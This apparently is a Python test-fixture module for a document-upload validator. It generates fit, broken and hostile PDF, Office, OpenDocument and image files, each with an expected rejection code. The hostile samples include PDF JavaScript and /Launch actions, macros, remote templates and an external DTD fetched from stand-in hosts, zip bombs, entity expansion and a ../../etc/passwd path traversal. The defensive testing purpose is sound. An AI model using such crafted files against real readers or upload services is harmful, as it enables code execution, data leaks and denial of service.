"""Files that are fit, broken or hostile, each made here; nothing of others is kept in the project.

`CORPUS` gives for each its name, how it is made, and the code with which it is refused, None when
it is taken.
"""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable

import openpyxl
import pikepdf
from PIL import Image

OFFICE = "application/vnd.openxmlformats-officedocument"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
ODT = b"application/vnd.oasis.opendocument.text"


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **saved) -> bytes:
    """A PDF of one page, changed before it is saved."""
    document = pikepdf.new()
    document.add_blank_page()
    if change:
        change(document)
    made = io.BytesIO()
    document.save(made, **{"deterministic_id": "encryption" not in saved, **saved})
    return made.getvalue()


def open_action(kind: str, **rest):
    """A change of a PDF: what happens when it is opened."""

    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name(kind), **rest)

    return change


def script_by_name(document: pikepdf.Pdf) -> None:
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    names = pikepdf.Dictionary(Names=pikepdf.Array(["a", script]))
    document.Root.Names = pikepdf.Dictionary(JavaScript=names)


def script_deep_inside(document: pikepdf.Pdf) -> None:
    field = pikepdf.Dictionary(AA=pikepdf.Dictionary(K=pikepdf.Dictionary(JS="event.value=1")))
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([pikepdf.Array([field])]))


def script_on_an_annotation(document: pikepdf.Pdf) -> None:
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 9, 9],
        A=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"),
    )
    document.pages[0].Annots = pikepdf.Array([document.make_indirect(note)])


def attachment(document: pikepdf.Pdf) -> None:
    document.attachments["prog.exe"] = pikepdf.AttachedFileSpec(document, b"MZ")


def xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(XFA=document.make_stream(b"<xdp/>"))


def link_to_a_page_of_the_web(document: pikepdf.Pdf) -> None:
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 9, 9],
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://regio.example/"),
    )
    document.pages[0].Annots = pikepdf.Array([note])


def wide(document: pikepdf.Pdf) -> None:
    document.Root["/Wide"] = pikepdf.Object.parse(b"[" + b"0 " * 1_000_001 + b"]")


def without_pages(document: pikepdf.Pdf) -> None:
    del document.pages[0]


def archive(parts: dict[str, bytes | str], *, packed: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP of these parts."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", packed) as opened:
        for name, content in parts.items():
            opened.writestr(name, content)
    return made.getvalue()


def content_types(part: str, media_type: str) -> str:
    return (
        f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="xml" '
        f'ContentType="application/xml"/><Override PartName="/{part}" '
        f'ContentType="{media_type}"/></Types>'
    )


DOCX_PARTS: dict[str, bytes | str] = {
    "[Content_Types].xml": content_types(
        "word/document.xml", f"{OFFICE}.wordprocessingml.document.main+xml"
    ),
    "word/document.xml": "<document><body><p>Plan</p></body></document>",
}


def docx() -> bytes:
    return archive(DOCX_PARTS)


def docx_with(name: str, content: bytes | str = b"x") -> bytes:
    return archive({**DOCX_PARTS, name: content})


def relation(kind: str, target: str) -> str:
    return (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" '
        f'Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )


def xlsx() -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["Werven", 12_500])
    made = io.BytesIO()
    book.save(made)
    return made.getvalue()


def docm() -> bytes:
    kinds = content_types(
        "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    return archive({**DOCX_PARTS, "[Content_Types].xml": kinds})


def odt(**more: bytes | str) -> bytes:
    parts = {
        "mimetype": ODT,
        "content.xml": "<office><text>Plan</text></office>",
        "META-INF/manifest.xml": "<manifest/>",
        **more,
    }
    return archive(parts, packed=zipfile.ZIP_STORED)


def locked_archive() -> bytes:
    """An archive of which the parts say that they are encrypted."""
    made = bytearray(docx())
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = made.find(signature)
        while start >= 0:
            made[start + place] |= 1
            start = made.find(signature, start + 4)
    return bytes(made)


def bomb() -> bytes:
    """Some KB that become a gigabyte."""
    return docx_with("word/media/big.bin", b"\0" * 30_000_000)


def many_parts() -> bytes:
    return archive({**DOCX_PARTS, **{f"word/media/{n}.txt": b"" for n in range(5_001)}})


def nested(depth: int) -> bytes:
    inner = docx()
    for _ in range(depth):
        inner = docx_with("word/embeddings/inner.docx", inner)
    return inner


def bombs_in_a_bomb() -> bytes:
    """Some KB with workbooks inside that each become no more than is let in, but all together."""
    filler = {f"word/media/{n}.bin": b"\0" * 1_000_000 for n in range(100)}
    inner = archive({**DOCX_PARTS, **filler})
    return archive({**DOCX_PARTS, **{f"word/embeddings/{n}.docx": inner for n in range(3)}})


def docm_in_other_letters() -> bytes:
    """A file with macros that says so in UTF-16, as XML may."""
    kinds = '<?xml version="1.0" encoding="utf-16"?><Types a="application/x.macroEnabled.12"/>'
    return archive({**DOCX_PARTS, "[Content_Types].xml": kinds.encode("utf-16")})


def wrong_check_sum() -> bytes:
    made = bytearray(
        archive({**DOCX_PARTS, "word/a.txt": b"abcdef" * 9}, packed=zipfile.ZIP_STORED)
    )
    at = made.find(b"abcdef")
    made[at] ^= 0xFF
    return bytes(made)


def twice_the_same_part() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as opened:
        for name, content in DOCX_PARTS.items():
            opened.writestr(name, content)
        opened.NameToInfo.clear()
        opened.writestr("word/document.xml", "<document/>")
    return made.getvalue()


def picture(kind: str = "PNG", size: tuple[int, int] = (60, 40)) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", size, "white").save(made, kind)
    return made.getvalue()


def png_that_says(width: int, height: int) -> bytes:
    """A small PNG whose head promises another size."""
    made = bytearray(picture())
    made[16:24] = width.to_bytes(4, "big") + height.to_bytes(4, "big")
    made[29:33] = zlib.crc32(made[12:29]).to_bytes(4, "big")
    return bytes(made)


DTD = '<!DOCTYPE d [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><document>&b;</document>'
FETCHES = '<!DOCTYPE d SYSTEM "http://kwaad.example/x.dtd"><document/>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600

CORPUS: tuple[tuple[str, str, Callable[[], bytes], str | None], ...] = (
    # What is fit.
    ("a plain PDF", "plan.pdf", pdf, None),
    ("a PDF in capitals", "PLAN.PDF", pdf, None),
    ("a PDF with a link", "plan.pdf", lambda: pdf(link_to_a_page_of_the_web), None),
    ("a PDF that opens at a page", "plan.pdf", lambda: pdf(open_action("/GoTo")), None),
    (
        "a PDF with packed objects",
        "plan.pdf",
        lambda: pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
        None,
    ),
    ("a Word document", "plan.docx", docx, None),
    (
        "a Word document with a link",
        "plan.docx",
        lambda: docx_with(
            "word/_rels/document.xml.rels", relation("hyperlink", "https://regio.example/")
        ),
        None,
    ),
    (
        "a chart with its workbook",
        "plan.docx",
        lambda: docx_with("word/embeddings/sheet.xlsx", xlsx()),
        None,
    ),
    ("an Excel workbook", "begroting.xlsx", xlsx, None),
    ("an OpenDocument text", "plan.odt", odt, None),
    ("a PNG", "kaart.png", picture, None),
    ("a JPEG", "kaart.jpg", lambda: picture("JPEG"), None),
    ("a JPEG by its other name", "kaart.jpeg", lambda: picture("JPEG"), None),
    # Kinds that are not taken, and names that say something else.
    ("a program", "plan.exe", lambda: b"MZ\x90\0", "kind_not_taken"),
    ("a page", "plan.html", lambda: b"<script>alert(1)</script>", "kind_not_taken"),
    ("an SVG", "kaart.svg", lambda: b"<svg onload='x()'/>", "kind_not_taken"),
    ("an archive", "plan.zip", lambda: archive({"a.txt": "a"}), "kind_not_taken"),
    ("a file without an ending", "plan", pdf, "kind_not_taken"),
    ("an ending after the ending", "plan.pdf.exe", pdf, "kind_not_taken"),
    ("a program that says PDF", "plan.pdf", lambda: b"MZ\x90\0" * 99, "other_content"),
    ("a page that says PDF", "plan.pdf", lambda: b"<html><script>x()</script>", "other_content"),
    ("a PDF after a page", "plan.pdf", lambda: b"<html></html>" + pdf(), "other_content"),
    ("a PNG that says JPEG", "kaart.jpg", picture, "other_content"),
    ("a Word document that says PDF", "plan.pdf", docx, "other_content"),
    ("a workbook that says Word", "plan.docx", xlsx, "other_content"),
    ("an archive that says Word", "plan.docx", lambda: archive({"a.txt": "a"}), "other_content"),
    ("an old Word document that says new", "plan.docx", lambda: OLE, "other_content"),
    (
        "a spreadsheet of OpenDocument",
        "plan.odt",
        lambda: archive({"mimetype": ODT.replace(b"text", b"spreadsheet")}),
        "other_content",
    ),
    # What stands in it under another spelling.
    (
        "a template from elsewhere, named in capitals",
        "plan.docx",
        lambda: docx_with(
            "word/_rels/settings.xml.RELS",
            relation("attachedTemplate", "https://elsewhere.example/a.dotm"),
        ),
        "loads_from_outside",
    ),
    ("macros told in other letters", "plan.docx", docm_in_other_letters, "has_macros"),
    (
        "a part of one name in capitals and in small letters",
        "plan.docx",
        lambda: docx_with("[content_types].xml", "<Types/>"),
        "broken",
    ),
    ("bombs in a bomb", "plan.docx", bombs_in_a_bomb, "too_much_inside"),
    # Empty and broken.
    ("nothing", "plan.pdf", lambda: b"", "empty"),
    ("a PDF that was cut off", "plan.pdf", lambda: pdf()[:-200], "broken"),
    ("only the head of a PDF", "plan.pdf", lambda: b"%PDF-1.7\n", "broken"),
    ("a PDF without pages", "plan.pdf", lambda: pdf(without_pages), "broken"),
    ("a Word document that was cut off", "plan.docx", lambda: docx()[:-30], "broken"),
    ("a part with a wrong check sum", "plan.docx", wrong_check_sum, "broken"),
    ("a part that stands in it twice", "plan.docx", twice_the_same_part, "broken"),
    (
        "XML that does not end",
        "plan.docx",
        lambda: archive({**DOCX_PARTS, "word/document.xml": "<document>"}),
        "broken",
    ),
    (
        "a part that goes out of the archive",
        "plan.docx",
        lambda: docx_with("word/../../etc/passwd"),
        "broken",
    ),
    ("a PNG that was cut off", "kaart.png", lambda: picture()[:-20], "broken"),
    ("a JPEG that was cut off", "kaart.jpg", lambda: picture("JPEG", (400, 400))[:-300], "broken"),
    (
        "an OpenDocument text without its text",
        "plan.odt",
        lambda: archive({"mimetype": ODT, "META-INF/manifest.xml": "<m/>"}),
        "broken",
    ),
    # Protected.
    (
        "a PDF with a password",
        "plan.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(user="geheim", owner="geheim")),
        "encrypted",
    ),
    (
        "a PDF with restrictions",
        "plan.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(user="", owner="geheim")),
        "encrypted",
    ),
    (
        "a Word document with a password",
        "plan.docx",
        lambda: OLE + "EncryptedPackage".encode("utf-16-le") + OLE,
        "encrypted",
    ),
    ("an archive with a password", "plan.docx", locked_archive, "encrypted"),
    (
        "an OpenDocument text with a password",
        "plan.odt",
        lambda: odt(**{"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
        "encrypted",
    ),
    # What grows.
    ("an archive that grows", "plan.docx", bomb, "too_much_inside"),
    ("an archive of too many parts", "plan.docx", many_parts, "too_much_inside"),
    ("documents in documents", "plan.docx", lambda: nested(3), "too_much_inside"),
    (
        "entities that grow",
        "plan.docx",
        lambda: archive({**DOCX_PARTS, "word/document.xml": DTD}),
        "loads_from_outside",
    ),
    (
        "a picture of a side too long",
        "kaart.png",
        lambda: png_that_says(30_000, 2),
        "picture_too_large",
    ),
    (
        "a picture of too many pixels",
        "kaart.png",
        lambda: png_that_says(19_000, 19_000),
        "picture_too_large",
    ),
    # What runs.
    (
        "a PDF with a script at opening",
        "plan.pdf",
        lambda: pdf(open_action("/JavaScript", JS="app.alert(1)")),
        "has_program",
    ),
    (
        "a PDF that opens another on a computer elsewhere",
        "plan.pdf",
        lambda: pdf(open_action("/GoToR", F="//elsewhere.example/share/a.pdf")),
        "has_program",
    ),
    (
        "a PDF that sends what is filled in",
        "plan.pdf",
        lambda: pdf(open_action("/SubmitForm", F="https://elsewhere.example/")),
        "has_program",
    ),
    ("a PDF with a million values in one", "plan.pdf", lambda: pdf(wide), "too_much_inside"),
    (
        "a PDF that starts a program",
        "plan.pdf",
        lambda: pdf(open_action("/Launch", F="calc.exe")),
        "has_program",
    ),
    ("a PDF with a script by name", "plan.pdf", lambda: pdf(script_by_name), "has_program"),
    ("a PDF with a script deep inside", "plan.pdf", lambda: pdf(script_deep_inside), "has_program"),
    (
        "a PDF with a script at a link",
        "plan.pdf",
        lambda: pdf(script_on_an_annotation),
        "has_program",
    ),
    (
        "a PDF with a script in packed objects",
        "plan.pdf",
        lambda: pdf(script_on_an_annotation, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "has_program",
    ),
    ("a PDF with a program inside", "plan.pdf", lambda: pdf(attachment), "has_program"),
    ("a PDF with a form that acts", "plan.pdf", lambda: pdf(xfa), "has_program"),
    (
        "a Word document with macros",
        "plan.docx",
        lambda: docx_with("word/vbaProject.bin"),
        "has_macros",
    ),
    ("a document with macros by another name", "plan.docx", docm, "has_macros"),
    (
        "a workbook with old macros",
        "begroting.xlsx",
        lambda: archive(
            {
                "[Content_Types].xml": "<Types/>",
                "xl/workbook.xml": "<workbook/>",
                "xl/macrosheets/sheet1.xml": "<x/>",
            }
        ),
        "has_macros",
    ),
    (
        "an OpenDocument text with macros",
        "plan.odt",
        lambda: odt(**{"Basic/Standard/Module1.xml": "<x/>"}),
        "has_macros",
    ),
    (
        "a chart with macros",
        "plan.docx",
        lambda: docx_with("word/embeddings/a.docx", docx_with("word/vbaProject.bin")),
        "has_macros",
    ),
    (
        "a Word document with a program",
        "plan.docx",
        lambda: docx_with("word/embeddings/oleObject1.bin"),
        "has_program",
    ),
    (
        "a Word document with an active part",
        "plan.docx",
        lambda: docx_with("word/activeX/activeX1.bin"),
        "has_program",
    ),
    (
        "a Word document with a script file",
        "plan.docx",
        lambda: docx_with("word/media/x.vbs"),
        "has_program",
    ),
    # What fetches.
    (
        "a template from elsewhere",
        "plan.docx",
        lambda: docx_with(
            "word/_rels/settings.xml.rels",
            relation("attachedTemplate", "https://kwaad.example/t.dotm"),
        ),
        "loads_from_outside",
    ),
    (
        "a file of the reader's own machine",
        "plan.docx",
        lambda: docx_with(
            "word/_rels/document.xml.rels", relation("image", "file://server/share/x.png")
        ),
        "loads_from_outside",
    ),
    (
        "a definition from elsewhere",
        "plan.docx",
        lambda: archive({**DOCX_PARTS, "word/document.xml": FETCHES}),
        "loads_from_outside",
    ),
)
